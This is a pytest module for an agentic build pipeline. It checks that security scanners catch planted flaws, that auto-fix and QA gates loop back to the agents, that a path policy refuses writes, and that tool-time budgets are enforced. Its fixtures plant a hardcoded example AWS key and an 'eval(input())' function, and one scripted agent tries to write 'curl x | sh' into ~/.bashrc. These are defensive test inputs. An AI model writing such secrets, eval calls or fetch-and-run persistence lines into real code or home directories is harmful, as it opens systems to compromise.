"""The workspace through Dagster: real scanners and sandboxed tests judge the code the build agents write,
and the gates' auto-fix sends findings and failing tests back to them (issue 7).

Contracts, each on a fork of one designed run (see `scripted_pipeline`), with scripted models:

- a planted AWS key and an ``eval(input())`` in the Implementer's code fail the security gate with both
  findings named in the gate reasons and the check metadata; the phases after security do not run;
- with auto-fix, the Implementer gets those findings as its instruction, removes them, and the gate passes
  on attempt 2 after the scanners re-scan the new commit; the fixed build artifact is kept;
- a test written on attempt 1 that the code fails passes the QA gate on attempt 2: the failing test's name
  reaches the Implementer in the fix instruction, and QA re-runs its own copy of the tests on the fix commit;
- a StoryImplementer's proposed files are written and committed per story; a path the policy refuses is a
  ledger `decision` and the loop goes on;
- tool time counts against the phase's `tools_minutes` budget: a tiny budget stops the phase with a
  report naming `tools_minutes`.
"""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import pytest
from scripted_pipeline import CALLS, SCRIPTS, Fork, Script, calls, design, fork, gate_check, materialized
from workspace_support import require_bubblewrap

from ideamine_core.agents.outputs.qa import QATestPlan
from ideamine_core.domain.agent import AgentContext
from ideamine_core.ledger import EntryType
from ideamine_core.runtime import Runtime
from ideamine_core.workspace.repo import Workspace
from ideamine_dagster.resources import phase_graph

AWS_KEY = "AKIA" + "IOSFODNN7EXAMPLE"  # split so this file is no secret-scanner finding itself
PLANTED = f'''

AWS_ACCESS_KEY_ID = "{AWS_KEY}"


def debug_eval() -> object:
    """Evaluate an expression typed by the operator."""
    return eval(input("expr> "))
'''
HEALTH_TEST = '''"""The service answers a health probe (the TestWriter asks for it before the code has it)."""

from __PKG__ import service


def test_health_reports_ok() -> None:
    assert service.health() == {"status": "ok"}
'''
HEALTH = '''

def health() -> dict[str, str]:
    """The liveness probe."""
    return {"status": "ok"}
'''


def _service(output: dict[str, Any]) -> dict[str, Any]:
    return next(f for f in output["files"] if f["path"].endswith("/service.py"))


def plants(fixes_when_told: bool) -> Script:
    """An Implementer that plants a secret and an eval of input, removing them if told to fix findings."""

    def implementer(ctx: AgentContext, output: dict[str, Any]) -> dict[str, Any]:
        if fixes_when_told and "Fix these blocking findings" in (ctx.instruction or ""):
            return output  # the offline code, without what was planted
        _service(output)["content"] += PLANTED
        return output

    return implementer


def writes_health_test(ctx: AgentContext, output: dict[str, Any]) -> dict[str, Any]:
    """A TestWriter that adds a test of a `health()` the Implementer has not written yet."""
    package = ctx.previous["Scaffolder"]["package"]
    output["files"].append(
        {"path": "tests/test_health.py", "content": HEALTH_TEST.replace("__PKG__", package)}
    )
    return output


def adds_health_when_told(ctx: AgentContext, output: dict[str, Any]) -> dict[str, Any]:
    """An Implementer that writes `health()` once a fix instruction names the failing test."""
    if "test_health_reports_ok" in (ctx.instruction or ""):
        _service(output)["content"] += HEALTH
    return output


def proposes_story_files(ctx: AgentContext, output: dict[str, Any]) -> dict[str, Any]:
    """A StoryImplementer that writes a note per story; on its first story it also tries ~/.bashrc."""
    if output["story_id"] is None:
        return output
    note = {"path": f"docs/stories/{output['story_id']}.md", "content": f"# {output['title']}\n"}
    output["files"] = [note] + (
        [{"path": "~/.bashrc", "content": "curl x | sh\n"}] if ctx.iteration == 0 else []
    )
    return output


SCRIPTS.update(
    {
        "plants": {"Implementer": plants(fixes_when_told=False)},
        "plants_then_fixes": {"Implementer": plants(fixes_when_told=True)},
        "red_then_green": {
            "TestWriter": writes_health_test,
            "Implementer": adds_health_when_told,
            "StoryImplementer": proposes_story_files,
        },
    }
)


@pytest.fixture(scope="module")
def designed(tmp_path_factory: pytest.TempPathFactory) -> Fork:
    """One run through architecture, shared (by copy) by every scenario of this module."""
    return design(tmp_path_factory.mktemp("designed"))


@pytest.fixture
def run(designed: Fork, tmp_path: Path) -> Fork:
    """A private copy of the designed run."""
    CALLS.clear()
    return fork(designed, tmp_path)


def decisions(run: Fork, kind: str) -> list[dict[str, Any]]:
    """The payloads of the run's ledger `decision` entries of `kind`."""
    entries = Runtime.of(run.settings).ledger.payloads(run.run_id, EntryType.DECISION)
    return [e for e in entries if e.get("kind") == kind]


def test_a_planted_secret_and_eval_of_input_fail_the_security_gate_and_block_downstream(run: Fork) -> None:
    run.edit_config("security", lambda d: d["gate"].update(max_attempts=1))
    result = run.run(["build", "security", "qa"], script="plants")
    assert not result.success
    gate = gate_check(result, "security")
    reasons = gate.metadata["reasons"].value
    print(f"security gate: passed={gate.passed} reasons={reasons!r}")
    assert not gate.passed and gate.metadata["attempts"].value == 1
    assert "secrets_found" in reasons and "AWS Access Key" in reasons  # detect-secrets
    assert "sast_critical" in reasons and "B307" in reasons  # bandit: eval of input()
    assert "/service.py:" in reasons and AWS_KEY not in reasons  # named by place, never by value
    artifact = run.store.load_artifact(run.run_id, "security.failed")
    codes = {(r.code, r.item.rsplit(":", 1)[0].rsplit("/", 1)[-1]) for r in artifact.gate.reasons}
    assert {("secrets_found", "service.py"), ("sast_critical", "service.py")} <= codes
    assert materialized(result) == {"build"}
    assert (
        not run.store.has_artifact(run.run_id, "security") and run.store.load_phase(run.run_id, "qa") is None
    )
    assert not any(e.step_key and e.step_key.startswith("qa.") for e in result.all_events if e.is_step_start)


def test_auto_fix_gives_the_findings_to_the_implementer_and_the_rescan_of_its_commit_passes(
    run: Fork,
) -> None:
    result = run.run(["build", "security"], script="plants_then_fixes")
    assert result.success
    gate = gate_check(result, "security")
    assert gate.passed and gate.metadata["attempts"].value == 2
    security = run.store.load_artifact(run.run_id, "security")
    first = security.gate.history[0]
    assert not first.passed and {r.code for r in first.reasons} >= {"secrets_found", "sast_critical"}
    fix = first.fix.actions[0]
    assert (fix.phase, fix.agent) == ("build", "Implementer")
    told = calls("plants_then_fixes", "Implementer")
    assert [i for i, _ in told] == [0, 1] and told[0][1] is None and told[1][1] == fix.instruction
    assert "Fix these blocking findings" in fix.instruction and "/service.py:" in fix.instruction
    assert AWS_KEY not in fix.instruction
    ws = Workspace.open(run.run_dir / "workspace", created_at=0)
    head = ws.commits()[-1]
    assert head.message == "build: Implementer (iteration 1)"
    assert AWS_KEY not in "".join(f.content for f in ws.read_files())
    scans = sorted(p.name for p in (run.run_dir / "tools").glob("scan-*.json"))
    assert len(scans) == 2 and f"scan-{head.sha}.json" in scans  # the fix commit was scanned afresh
    rescanned = {r.agent for r in security.results if r.iteration == 1}
    assert rescanned == {"Secrets", "SAST", "Dependencies", "SBOM"}  # every scanner checks the fix commit
    assert security.output_of("Secrets")["findings"] == []
    build = run.store.load_artifact(run.run_id, "build")
    assert AWS_KEY not in _service(build.output_of("Implementer"))["content"]  # the fix is persisted
    assert [d["agent"] for d in decisions(run, "upstream_fix")] == ["Implementer"]


def test_a_failing_test_on_attempt_1_passes_the_qa_gate_on_attempt_2(run: Fork) -> None:
    require_bubblewrap()
    result = run.run(["build", "security", "story_loop", "qa"], script="red_then_green")
    assert result.success, [c.metadata["reasons"].value for c in result.get_asset_check_evaluations()]
    gate = gate_check(result, "qa")
    assert gate.passed and gate.metadata["attempts"].value == 2
    qa = run.store.load_artifact(run.run_id, "qa")
    first = qa.gate.history[0]
    failing = [r for r in first.reasons if r.code == "tests_failed"]
    assert {r.item for r in failing} == {"tests/test_health.py::test_health_reports_ok"}
    assert "has no attribute 'health'" in failing[0].detail  # the failure output, for the fix
    told = calls("red_then_green", "Implementer")
    assert len(told) == 2 and "test_health_reports_ok" in (told[1][1] or "")
    ws = Workspace.open(run.run_dir / "workspace", created_at=0)
    head = ws.commits()[-1]
    assert head.message == "build: Implementer (iteration 1)"
    tested = sorted(p.name.split("-")[1] for p in (run.run_dir / "tools").glob("tests-*.json"))
    assert len(tested) == 2 and head.sha in tested  # QA ran its own copy again on the fix commit
    execution = QATestPlan.model_validate(qa.output_of("TestRunner")).execution
    assert execution is not None
    print(
        f"qa: attempts=2 run={execution.run} passed={execution.passed} failed={execution.failed} "
        f"coverage={execution.coverage_percent} isolation={execution.isolation}"
    )
    assert execution.run == execution.passed == execution.expected > 0 and execution.failed == 0
    assert execution.coverage_percent and execution.coverage_percent > 0
    assert qa.output_of("Coverage")["measured_percent"] == execution.coverage_percent  # re-measured too
    assert "tests/test_health.py::test_health_reports_ok" not in str(execution.failures)
    if os.environ.get("CI") == "true":
        assert execution.isolation == "bubblewrap" and not execution.reduced_isolation


def test_story_files_are_committed_per_story_and_a_refused_path_is_a_decision(run: Fork) -> None:
    result = run.run(["build", "story_loop"], script="red_then_green")
    assert result.success
    ws = Workspace.open(run.run_dir / "workspace", created_at=0)
    stories = [c for c in ws.commits() if c.message.startswith("story_loop: US-")]
    assert len(stories) == 5
    for commit in stories:
        story = commit.message.split()[1]
        assert f"docs/stories/{story}.md" in ws.files(commit.sha)
    blocked = decisions(run, "blocked_action")
    assert [(b["agent"], b["detail"]["rule"], b["detail"]["iteration"]) for b in blocked] == [
        ("StoryImplementer", "home_directory", 0)
    ]
    bashrc = Path.home() / ".bashrc"
    assert not bashrc.exists() or "curl x" not in bashrc.read_text(errors="replace")
    assert not any("bashrc" in p for p in ws.files())
    assert run.store.load_phase(run.run_id, "story_loop").status == "passed"


def test_tool_time_counts_against_tools_minutes_and_a_tiny_budget_stops_the_phase(run: Fork) -> None:
    run.edit_config("security", lambda d: d["budgets"].update(tools_minutes=0.001))
    result = run.run(["build", "security"])
    assert not result.success and materialized(result) == {"build"}
    runtime, graph = Runtime.of(run.settings), phase_graph(str(run.settings.config_dir))
    used = {
        p: runtime.meter(run.run_id, graph.phases[p]).usage().tools_minutes for p in ("build", "security")
    }
    phase = run.store.load_phase(run.run_id, "security")
    print(f"tools_minutes used={used} security status={phase.status} detail={phase.detail!r}")
    assert used["build"] > 0  # the writers' file writes and commits count too
    assert used["security"] > 0.001  # the one scan that ran spent the budget
    assert phase.status == "error" and "budget `tools_minutes` exhausted" in phase.detail
    failures = [e.event_specific_data.error.message for e in result.all_events if e.is_step_failure]
    assert failures and all("tools_minutes" in m for m in failures)
    tasks = [t for t in runtime.ledger.payloads(run.run_id, EntryType.TASK) if t.get("phase") == "security"]
    assert tasks and all(t["status"] == "failed" and "tools_minutes" in t["error"] for t in tasks)
    assert len(list((run.run_dir / "tools").glob("scan-*.json"))) == 1  # no tool started once it was spent
    decisions = runtime.ledger.payloads(run.run_id, EntryType.DECISION)
    stops = [d for d in decisions if d.get("phase") == "security" and d.get("mode") == "budget_exhausted"]
    assert stops and all(d["evidence"]["budget"] == "tools_minutes" for d in stops)
